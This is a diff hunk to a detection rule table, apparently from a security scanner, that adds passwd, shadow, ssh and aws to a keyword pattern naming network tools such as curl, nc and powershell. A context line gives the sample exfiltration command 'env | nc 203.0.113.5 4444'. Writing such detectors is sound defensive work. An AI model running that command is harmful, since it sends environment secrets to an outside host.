@@ -1417,7 +1417,7 @@ _RULE_SPECS: tuple[tuple[str, str, str, str, tuple[str, ...], tuple[str, ...]], 
             "env | nc 203.0.113.5 4444",
         ),
         ("curl|wget|nc|ncat|netcat|scp|rsync|ftp|iwr|irm|invoke|webrequest|restmethod|bash|rm"
-         "|powershell|sudo|printenv|env|base64",),
+         "|powershell|sudo|printenv|env|base64|passwd|shadow|ssh|aws",),
     ),
 )
 
